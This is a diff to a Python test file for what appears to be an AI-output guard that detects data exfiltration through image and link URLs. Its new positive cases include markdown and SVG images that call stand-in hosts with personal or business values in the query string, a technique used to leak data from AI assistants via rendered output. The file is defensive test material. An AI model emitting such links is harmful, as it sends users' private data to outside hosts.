@@ -12,7 +12,8 @@ import pytest
 
 from aiwarden.core.findings import Severity
 from aiwarden.guard import exfil
-from aiwarden.guard.exfil_values import password_like, pin_shaped
+from aiwarden.guard.exfil_channels import rendered_urls
+from aiwarden.guard.exfil_values import password_like, pin_shaped, unexplained_image_value
 from aiwarden.guard.types import OutputContext
 
 EMPTY = OutputContext()
@@ -55,6 +56,9 @@ POSITIVES = [
     ("sentence-in-link-path", "[invoice](https://img.relaystat.test/i/Marta%20Oyelaran%20invoice%207713%20overdue%20address%2022%20Quayside%20Road%20Leith.png)"),
     ("sentence-in-link-fragment", "[invoice](https://img.relaystat.test/view#Marta%20Oyelaran%20invoice%207713%20overdue%20address%2022%20Quayside%20Road%20Leith)"),
     ("address-in-link-query", "[map](https://img.relaystat.test/p?q=Marta+Oyelaran+22+Quayside+Road+Leith)"),
+    ("image-unexplained-name", "![](https://wuzzi.test/l.png?nbml=Johann)"),
+    ("image-unexplained-words", "![](https://wuzzi.test/l.png?sales=USA+Germany)"),
+    ("image-unexplained-word-svg", '<svg><image href="https://px.metricsfold.test/a.svg?k=confetti"/></svg>'),
     ("percent-hidden-letters", "<a href=\"https://img.relaystat.test/c.png?m=%4D%61%72%74%61%20%4F%79%65\">invoice</a>"),
 ]
 
@@ -79,6 +83,13 @@ BENIGN = [
     ("directions", "[route](https://www.waze.com/ul?q=22%20Quayside%20Road%20Leith&navigate=yes)"),
     ("unicode-query", "[mugs](https://shop.lumora.test/search?q=caf%C3%A9+cr%C3%A8me+mug)"),
     ("oauth-client-id", "[sign in](https://auth.lumora.test/authorize?client_id=1042-abcdefghijkl.apps.googleusercontent.com&scope=openid)"),
+    ("badge-caption", "![coffee](https://img.buymeacoffee.test/button-api/?text=Buy+me+a+coffee&slug=mlindqvist&button_colour=FFDD00)"),
+    ("badge-colours", "![hits](https://hits.seeyoufarm.test/api/count/incr/badge.svg?url=https%3A%2F%2Fgithub.com%2Fq%2Fl&count_bg=%2379C83D&title=hits)"),
+    ("badge-type", "![fossa](https://app.fossa.test/api/projects/git%2Bgithub.com%2Fq%2Fl.svg?type=shield)"),
+    ("widget-user-id", "![now playing](https://spotify-profile.lumora.test/api/view?uid=mlindqvist&theme=novatorem)"),
+    ("media-id-path", "![photo](https://pbs.twimg.test/media/GHx2mP1XcAA4kQz?format=jpg&name=large)"),
+    ("product-name", "![](https://img.lumora.test/p.png?data=MacBookPro)"),
+    ("srcset-with-commas", '<picture><source srcset="https://skillicons.test/icons?i=py,ts,docker,aws 1x, https://skillicons.test/icons?i=py,ts&theme=dark 2x"></picture>'),
     ("irc-client-fragment", "Chat with us at https://kiwiirc.com/nextclient/#ircs://irc.libera.chat:+6697/pypa"),
 ]
 
@@ -131,3 +142,17 @@ def test_a_pin_in_a_link_needs_the_conversation() -> None:
     text = "[invoice](https://static.qv.test/pixel.png?s=8352)"  # an id in a link is as likely as a PIN
     assert not _blocks(text)
     assert _blocks(text, CONTEXT)
+
+
+def test_unexplained_image_values() -> None:
+    assert unexplained_image_value("nbml", "Johann") and unexplained_image_value("q", "confetti")
+    assert not unexplained_image_value("style", "confetti") and not unexplained_image_value("username", "johann")
+    assert not unexplained_image_value("q", "true") and not unexplained_image_value("i", "js,ts,py")
+    assert not unexplained_image_value("d", "en_GB") and not unexplained_image_value("log", "INFO")
+    assert not unexplained_image_value("repos", "pallets/flask") and not unexplained_image_value("q", "iOS17")
+
+
+def test_srcset_candidates_keep_commas_inside_their_urls() -> None:
+    text = '<img srcset="https://a.test/i?x=py,ts 1x, https://a.test/j.png 2x,https://a.test/k.png">'
+    assert [u.url for u in rendered_urls(text)] == ["https://a.test/i?x=py,ts", "https://a.test/j.png",
+                                                    "https://a.test/k.png"]
